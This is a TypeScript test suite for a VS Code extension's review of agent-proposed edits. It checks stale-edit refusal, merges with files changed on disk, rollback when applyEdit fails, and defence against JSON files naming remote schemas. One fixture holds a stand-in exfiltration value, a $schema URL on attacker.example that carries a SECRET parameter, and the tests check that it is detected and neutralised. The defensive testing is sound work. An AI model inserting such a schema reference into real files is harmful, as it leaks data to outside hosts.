/**
 * The diff review's accept under attack, in the stand-in host (./fakeVscode.ts) with a real journal and real
 * files: W2 (unsaved edits), W8 (applyEdit refuses), M15 (a proposed JSON naming a remote schema).
 */
import './install';
import { strict as assert } from 'node:assert';
import { readdirSync, readFileSync, rmSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { RunJournal } from '../../../src/core/run';
import type { TaskPatch } from '../../../src/core/run/patch';
import { parseProposedUri, proposedUriParts, remoteSchemaUrls } from '../../../src/vscode/review/proposedUri';
import * as fake from './fakeVscode';
import { filePatch, fixture, type Fixture } from './reviewFixture';

/** Every file under `dir` (relative), to show nothing was written outside the workspace and the journal. */
function tree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort();
}

async function loadPatch(f: Fixture): Promise<TaskPatch | undefined> {
  return (await RunJournal.open(f.stateDir, f.runId)).loadPatch('t1');
}

describe('vscode review under attack (stand-in host)', () => {
  let f: Fixture | undefined;
  beforeEach(() => fake.resetHost());
  afterEach(() => {
    f?.review.dispose();
    if (f) rmSync(f.base, { recursive: true, force: true });
    f = undefined;
  });

  describe('W2: the user edits the file (unsaved) while the agent works, then accepts', () => {
    it('refuses as stale: the unsaved text stays in the editor, nothing is saved, the disk keeps its bytes', async () => {
      f = await fixture({ 'app.py': 'x = 1\n' }, [filePatch('app.py', 'x = 1\n', 'x = 2\n')]);
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'app.py')));
      doc.type('x = 1\n# my unsaved work\n');
      const outside = tree(f.base);

      const outcome = await f.review.accept(f.runId, 't1');

      assert.equal(outcome.state, 'conflicted');
      assert.ok(outcome.state === 'conflicted');
      assert.deepEqual(outcome.unsaved, ['app.py']);
      assert.match(outcome.conflicts[0].reason, /app\.py has unsaved changes in an editor/);
      assert.equal(doc.getText(), 'x = 1\n# my unsaved work\n', 'the unsaved text is untouched');
      assert.equal(doc.isDirty, true, 'never force-saved');
      assert.deepEqual(fake.state.saves, []);
      assert.equal(readFileSync(join(f.root, 'app.py'), 'utf8'), 'x = 1\n');
      assert.equal(fake.state.appliedEdits.length, 0, 'no edit was applied');
      assert.equal((await loadPatch(f))?.state, 'conflicted', 'the patch is kept, marked stale');
      assert.deepEqual(tree(f.base).filter((p) => !p.startsWith('state/')), outside.filter((p) => !p.startsWith('state/')), 'no file written in the workspace or beside it');
    });

    it('catches typing that happens between the check and the edit (re-checked under the write lock)', async () => {
      f = await fixture({ 'app.py': 'x = 1\n' }, [filePatch('app.py', 'x = 1\n', 'x = 2\n')]);
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'app.py')));
      // The user types just after the first check (while the accept waits for the workspace's write lock).
      let typed = false;
      const typeOnce = (): void => {
        if (!typed) {
          typed = true;
          doc.type('typed during the check\n');
        }
      };
      const review = f.review;
      const conflictsOf = (review as unknown as { conflicts: (...a: unknown[]) => Promise<unknown[]> }).conflicts.bind(review);
      (review as unknown as { conflicts: (...a: unknown[]) => Promise<unknown[]> }).conflicts = async (...a: unknown[]) => {
        const out = await conflictsOf(...a);
        typeOnce();
        return out;
      };
      const outcome = await review.accept(f.runId, 't1');
      assert.equal(typed, true);
      assert.equal(outcome.state, 'conflicted');
      assert.equal(doc.getText(), 'typed during the check\n');
      assert.equal(fake.state.appliedEdits.length, 0);
      assert.deepEqual(fake.state.saves, []);
    });

    it('saves the user\'s edits only when asked ("Save My Edits"), and never applies the stale proposal', async () => {
      f = await fixture({ 'app.py': 'x = 1\n' }, [filePatch('app.py', 'x = 1\n', 'x = 2\n')]);
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'app.py')));
      doc.type('mine\n');
      await f.review.accept(f.runId, 't1');
      assert.deepEqual(fake.state.saves, []);
      assert.deepEqual(await f.review.saveEditors(f.runId, ['app.py']), ['app.py']);
      assert.equal(readFileSync(join(f.root, 'app.py'), 'utf8'), 'mine\n');
      // Accepting again now finds the disk changed since the run read it: still refused, mine kept.
      const again = await f.review.accept(f.runId, 't1');
      assert.equal(again.state, 'conflicted');
      assert.equal(readFileSync(join(f.root, 'app.py'), 'utf8'), 'mine\n');
    });

    it('an unsaved buffer equal to the base is not a conflict (accept applies and saves)', async () => {
      f = await fixture({ 'app.py': 'x = 1\n' }, [filePatch('app.py', 'x = 1\n', 'x = 2\n')]);
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'app.py')));
      doc.type('x = 1\n');
      const outcome = await f.review.accept(f.runId, 't1');
      assert.equal(outcome.state, 'applied');
      assert.equal(readFileSync(join(f.root, 'app.py'), 'utf8'), 'x = 2\n');
    });
  });

  describe('W3: the file changed on disk by another tool just before the accept', () => {
    it('an editor VS Code has not reloaded yet is not edited (its save would fail): the accept is written through the journal, merged with the disk', async () => {
      f = await fixture({ 'app.py': 'a\nb\nc\n' }, [filePatch('app.py', 'a\nb\nc\n', 'a\nb\nC\n')]);
      // Open in an editor (clean), then changed on disk by another tool; the editor still shows the old text.
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'app.py')));
      writeFileSync(join(f.root, 'app.py'), 'A (formatter)\nb\nc\n');
      assert.equal(doc.getText(), 'a\nb\nc\n');

      const outcome = await f.review.accept(f.runId, 't1');

      assert.equal(outcome.state, 'applied');
      assert.ok(outcome.state === 'applied');
      assert.deepEqual(outcome.merged, ['app.py']);
      assert.equal(fake.state.appliedEdits.length, 0, 'no edit on the stale editor');
      assert.equal(readFileSync(join(f.root, 'app.py'), 'utf8'), 'A (formatter)\nb\nC\n', 'both changes on disk');
      const patch = await loadPatch(f);
      assert.equal(patch?.state, 'merged');
      assert.equal(Buffer.from(patch?.applied?.['app.py']?.prior ?? '', 'base64').toString('utf8'), 'A (formatter)\nb\nc\n', 'Undo Accept can put the disk version back');
    });
  });

  describe('W8: applyEdit returns false', () => {
    it('fails with our own diagnosis naming the file, puts back what VS Code did part-way, and does not retry', async () => {
      f = await fixture({ 'a.py': 'a = 1\n' }, [filePatch('new.py', null, 'n = 1\n'), filePatch('a.py', 'a = 1\n', 'a = 2\n')]);
      let calls = 0;
      // VS Code creates new.py, then gives up on a.py (e.g. its document changed meanwhile) without rolling back.
      fake.state.failApplyEdit = () => {
        calls++;
        if (calls === 1) {
          const doc = fake.state.documents.find((d) => d.uri.fsPath.endsWith('a.py'));
          doc?.setText('a = 1\n');
          return { fail: true, partial: 1 };
        }
        return { fail: false };
      };
      const outside = tree(f.base).filter((p) => !p.startsWith('state/'));

      const outcome = await f.review.accept(f.runId, 't1');

      assert.equal(outcome.state, 'failed');
      assert.ok(outcome.state === 'failed');
      assert.match(outcome.reason, /VS Code refused the edit accepting t1/);
      assert.match(outcome.reason, /a\.py: its editor changed while the edit was being applied/, 'names the file and the cause');
      assert.match(outcome.reason, /put back as before: new\.py/);
      assert.match(outcome.reason, /nothing was retried/);
      assert.equal(calls, 1, 'applyEdit (the accept) was called once: no retry loop');
      assert.equal(existsSync(join(f.root, 'new.py')), false, 'the file VS Code created part-way is removed');
      assert.equal(readFileSync(join(f.root, 'a.py'), 'utf8'), 'a = 1\n');
      assert.deepEqual(tree(f.base).filter((p) => !p.startsWith('state/')), outside, 'the workspace is as before');
      const patch = await loadPatch(f);
      assert.equal(patch?.state, 'proposed', 'the patch still waits for review');
      assert.deepEqual(patch?.fileStates ?? {}, {});
    });

    it('never puts back over text the user typed meanwhile', async () => {
      f = await fixture({ 'a.py': 'a = 1\n' }, [filePatch('a.py', 'a = 1\n', 'a = 2\n')]);
      const doc = await fake.workspace.openTextDocument(fake.Uri.file(join(f.root, 'a.py')));
      fake.state.failApplyEdit = () => {
        doc.type('the user typed this\n');
        return { fail: true };
      };
      const outcome = await f.review.accept(f.runId, 't1');
      assert.equal(outcome.state, 'failed');
      assert.equal(doc.getText(), 'the user typed this\n');
      assert.equal(readFileSync(join(f.root, 'a.py'), 'utf8'), 'a = 1\n');
      assert.deepEqual(fake.state.saves, []);
    });

    it('says when the file system is read-only', async () => {
      f = await fixture({ 'a.py': 'a = 1\n' }, [filePatch('a.py', 'a = 1\n', 'a = 2\n')]);
      fake.state.writableFileSystem = false;
      fake.state.failApplyEdit = () => ({ fail: true });
      const outcome = await f.review.accept(f.runId, 't1');
      assert.ok(outcome.state === 'failed');
      assert.match(outcome.reason, /a\.py: the file system is read-only/);
      assert.equal(readFileSync(join(f.root, 'a.py'), 'utf8'), 'a = 1\n');
    });
  });

  describe('M15: a proposed JSON file naming a remote $schema', () => {
    const hostile = '{\n  "$schema": "https://attacker.example/s.json?d=SECRET",\n  "name": "x"\n}\n';

    it('finds remote schemas the way the JSON service reads them (escapes, nesting, JSONC, YAML modelines), not local ones', () => {
      assert.deepEqual(remoteSchemaUrls(hostile), ['https://attacker.example/s.json?d=SECRET']);
      assert.deepEqual(remoteSchemaUrls('{"a": {"\\u0024schema": "\\u0068ttp://b.example/y"}}'), ['http://b.example/y']);
      assert.deepEqual(remoteSchemaUrls('// comment\n{ "$schema": "//host.example/s", }'), ['//host.example/s']);
      assert.deepEqual(remoteSchemaUrls('# yaml-language-server: $schema=https://y.example/s.json\na: 1\n'), ['https://y.example/s.json']);
      assert.deepEqual(remoteSchemaUrls('{"$schema": "./schema.json", "b": {"$schema": "file:///s.json"}, "c": "C:/s.json", "d": ["$schema", "https://not-a-member"]}'), []);
    });

    it('opens the proposal as plain text (a .txt address, read-only provider) and warns, naming the address', async () => {
      f = await fixture({}, [filePatch('config/app.json', null, hostile)]);
      const shown = await f.review.reviewChanges(f.runId);
      assert.equal(shown, 1);
      const changes = fake.state.executed.find((e) => e.command === '_workbench.openMultiDiffEditor');
      assert.ok(changes);
      const [{ originalUri, modifiedUri: right }] = (changes.args[0] as { resources: { originalUri?: fake.Uri; modifiedUri: fake.Uri }[] }).resources;
      assert.equal(originalUri, undefined, 'a created file has no left side (shown as added)');
      assert.equal(right.scheme, 'agensflow-proposed');
      assert.match(right.path, /\/config\/app\.json\.txt$/, 'no .json name: no JSON language support, no schema download');
      assert.equal(parseProposedUri(right)?.path, 'config/app.json');
      // The content is served unchanged for review (read-only), under the text address.
      assert.equal(await fake.state.contentProviders.get('agensflow-proposed')?.provideTextDocumentContent(right), hostile);
      const warning = fake.state.messages.find((m) => m.level === 'warning');
      assert.ok(warning);
      assert.match(warning.text, /config\/app\.json \(t1\) → https:\/\/attacker\.example\/s\.json/);
      assert.match(warning.text, /shown as plain text/);
      // The single-file diff does the same.
      fake.state.executed = [];
      await f.review.openDiff(f.runId, 't1', 'config/app.json');
      const diff = fake.state.executed.find((e) => e.command === 'vscode.diff');
      assert.match((diff?.args[0] as fake.Uri).path, /app\.json\.txt$/, 'the empty left side of a new file too');
      assert.match((diff?.args[1] as fake.Uri).path, /app\.json\.txt$/);
    });

    it('keeps ordinary JSON proposals as .json (highlighted) and does not warn', async () => {
      f = await fixture({}, [filePatch('config/app.json', null, '{ "$schema": "./s.json" }\n')]);
      await f.review.reviewChanges(f.runId);
      const changes = fake.state.executed.find((e) => e.command === '_workbench.openMultiDiffEditor');
      const [{ modifiedUri: right }] = (changes?.args[0] as { resources: { modifiedUri: fake.Uri }[] }).resources;
      assert.match(right.path, /app\.json$/);
      assert.equal(fake.state.messages.filter((m) => m.level === 'warning').length, 0);
    });

    it('plain-text addresses round-trip and cannot be forged into another path', () => {
      const parts = proposedUriParts({ runId: 'r', taskId: 't', path: 'a.json', side: 'after', asText: true }, '/w/a.json');
      assert.deepEqual(parseProposedUri(parts), { runId: 'r', taskId: 't', path: 'a.json', side: 'after', asText: true });
      assert.equal(parseProposedUri({ ...parts, path: '/w/a.json' }), undefined, 'as=text without the .txt suffix is refused');
    });
  });
});
